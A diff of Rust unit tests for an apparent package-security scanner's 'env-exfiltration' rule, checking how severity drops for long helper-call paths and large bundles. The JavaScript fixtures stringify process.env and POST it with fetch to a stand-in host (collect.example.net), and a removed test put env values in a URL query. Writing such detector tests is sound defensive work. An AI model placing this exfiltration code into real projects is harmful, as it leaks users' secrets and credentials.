@@ -276,32 +276,38 @@ mod tests {
         );
     }
 
-    /// The same env → helpers → send path is critical in a small file and at most medium in a
-    /// bundle, where context-insensitive flow joins every caller of a shared helper.
+    /// Value flow is context-insensitive, so long paths weigh less: env → two helpers → send
+    /// (4 call boundaries) is critical in a small file but medium in a bundle (more than
+    /// `MAX_BUNDLE_HOPS`); through four helpers (8 boundaries, more than `MAX_HOPS`) it is
+    /// medium anywhere.
     #[test]
-    fn long_paths_inside_a_bundle_are_medium() {
-        let code = "function a(x) { return b(x); }\nfunction b(x) { return c(x); }\nfunction c(x) { return d(x); }\nfunction d(x) { return x; }\nconst body = a(JSON.stringify(process.env));\nfetch('https://collect.example.net/e', { method: 'POST', body });\n";
-        let small = scan(&[("package.json", PJ), ("a.js", code)]);
-        let f = crate::rules::test_util::finding(&small, "code/env-exfiltration");
-        assert_eq!(f.severity, diligence_finding::Severity::Critical, "{f:?}");
-        let padded = format!("{code}/*{}*/\n", "x".repeat(crate::rules::BUNDLE_BYTES));
-        let big = scan(&[("package.json", PJ), ("a.js", padded.as_str())]);
-        let f = crate::rules::test_util::finding(&big, "code/env-exfiltration");
-        assert_eq!(f.severity, diligence_finding::Severity::Medium, "{f:?}");
-    }
-
-    /// `process.env` itself in a template is `[object Object]`; a key of it is a value.
-    #[test]
-    fn whole_env_object_in_a_template_sends_nothing() {
-        let send = |expr: &str| {
-            let code = format!(
-                "const env = process.env;\nfunction url(x) {{ return `https://collect.example.net/?q=${{{expr}}}`; }}\nfetch(url(env));\n"
-            );
-            let s = scan(&[("package.json", PJ), ("a.js", code.as_str())]);
-            hits(&s, "code/env-exfiltration").len()
+    fn long_paths_are_medium() {
+        let code = |helpers: usize| {
+            let mut c = String::new();
+            for i in 0..helpers {
+                let next = if i + 1 == helpers {
+                    "x".to_string()
+                } else {
+                    format!("h{}(x)", i + 1)
+                };
+                c.push_str(&format!("function h{i}(x) {{ return {next}; }}\n"));
+            }
+            c.push_str("const body = h0(JSON.stringify(process.env));\nfetch('https://collect.example.net/e', { method: 'POST', body });\n");
+            c
         };
-        assert_eq!(send("x"), 0);
-        assert_eq!(send("JSON.stringify(x)"), 1);
+        let severity = |src: &str| {
+            let s = scan(&[("package.json", PJ), ("a.js", src)]);
+            crate::rules::test_util::finding(&s, "code/env-exfiltration").severity
+        };
+        use diligence_finding::Severity::{Critical, Medium};
+        assert_eq!(severity(&code(2)), Critical);
+        let padded = format!(
+            "{}/*{}*/\n",
+            code(2),
+            "x".repeat(crate::rules::BUNDLE_BYTES)
+        );
+        assert_eq!(severity(&padded), Medium);
+        assert_eq!(severity(&code(4)), Medium);
     }
 
     #[test]
